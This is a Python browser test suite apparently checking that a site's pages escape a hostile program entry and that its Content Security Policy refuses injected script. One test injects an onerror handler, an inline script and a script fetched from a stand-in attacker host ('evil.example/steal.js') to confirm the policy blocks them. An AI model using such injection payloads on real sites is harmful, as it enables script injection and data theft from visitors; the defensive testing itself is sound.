"""The hostile program's pages in real Chromium: nothing from the file runs, the policy blocks
what would run if it got through, and the theme itself still works under that policy."""
from tests.site.conftest import HOSTILE
from tests.site.hostile import hostile_program
from tests.site.scan import RECORD_VIOLATIONS


def open_page(browser, url):
    context = browser.new_context(viewport={"width": 360, "height": 740}, locale="zh-CN")
    context.add_init_script(RECORD_VIOLATIONS)
    page = context.new_page()
    errors = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.goto(url)
    page.wait_for_load_state("networkidle")
    return context, page, errors


def pwned(page):
    return page.evaluate("window.__pwned === undefined ? null : String(window.__pwned)")


def test_hostile_program_page_runs_nothing_and_shows_the_text(browser, hostile_url):
    context, page, errors = open_page(browser, f"{hostile_url}classes/{HOSTILE}/")
    data = hostile_program()
    page.hover("h1")
    page.locator(".cat-intro").scroll_into_view_if_needed()
    page.locator(".cat-intro").hover()
    assert pwned(page) is None
    assert page.locator("h1").inner_text() == data["title"]
    assert page.title().startswith(data["title"])
    assert page.locator("iframe").count() == 0
    assert page.evaluate("window.__violations") == [] and errors == []
    context.close()


def test_listings_and_search_under_the_policy(browser, hostile_url):
    context, page, errors = open_page(browser, hostile_url)
    assert page.locator(".cat-card").count() == 1 and pwned(page) is None
    page.locator("label.md-header__button[for=__search]").click()
    box = page.locator("input.md-search__input")
    box.fill("三里屯")
    box.press("End")
    results = page.locator(".md-search-result__item a")
    results.first.wait_for(timeout=10000)
    assert HOSTILE in results.first.get_attribute("href")
    assert "<script>" in page.locator(".md-search-result").inner_text()
    page.keyboard.press("Escape")
    page.locator("details.cat-filter-panel").evaluate("panel => { panel.open = true; }")
    page.locator("select[name=tag]").select_option(index=1)
    assert pwned(page) is None
    assert page.evaluate("window.__violations") == [] and errors == []
    context.close()


def test_markup_that_got_through_would_be_refused_by_the_policy(browser, hostile_url):
    """As if escaping had a gap: inject a handler and an inline script into the live page."""
    context, page, _ = open_page(browser, f"{hostile_url}classes/{HOSTILE}/")
    page.evaluate("""() => {
      document.body.insertAdjacentHTML("beforeend", `<img src="x" onerror="window.__pwned='handler'">`);
      const script = document.createElement("script");
      script.textContent = "window.__pwned = 'inline'";
      document.body.append(script);
      const foreign = document.createElement("script");
      foreign.src = "https://evil.example/steal.js";
      document.body.append(foreign);
    }""")
    page.wait_for_function("window.__violations.length >= 3")
    assert pwned(page) is None
    directives = " ".join(page.evaluate("window.__violations"))
    assert "script-src-attr" in directives and "script-src-elem inline" in directives and "evil.example" in directives
    context.close()


def test_poster_prints_with_its_own_style_and_no_inline_script(browser, hostile_url):
    context, page, errors = open_page(browser, f"{hostile_url}classes/{HOSTILE}/poster.html")
    assert pwned(page) is None
    assert page.locator("h1").inner_text() == hostile_program()["title"]
    assert page.evaluate("getComputedStyle(document.querySelector('h1')).fontSize") == "40px"
    page.evaluate("window.print = () => { window.__printed = true }")
    page.click("button.print")
    assert page.evaluate("window.__printed") is True
    assert page.evaluate("window.__violations") == [] and errors == []
    context.close()
